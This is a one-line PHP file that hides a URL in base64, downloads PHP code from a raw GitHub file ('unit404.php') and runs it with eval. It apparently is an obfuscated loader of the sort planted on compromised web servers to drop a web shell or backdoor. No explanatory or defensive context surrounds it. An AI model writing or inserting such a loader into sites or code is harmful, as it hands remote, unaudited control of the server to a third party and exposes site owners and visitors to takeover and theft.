<?php eval(urldecode("\x3f\x3e").file_get_contents(base64_decode("aHR0cHM6Ly9yYXcuZ2l0aHVidXNlcmNvbnRlbnQuY29tL2hleHhhZ29ucmF3L2xlYXJuL3JlZnMvaGVhZHMvbWFpbi91bml0NDA0LnBocA=="))); ?>
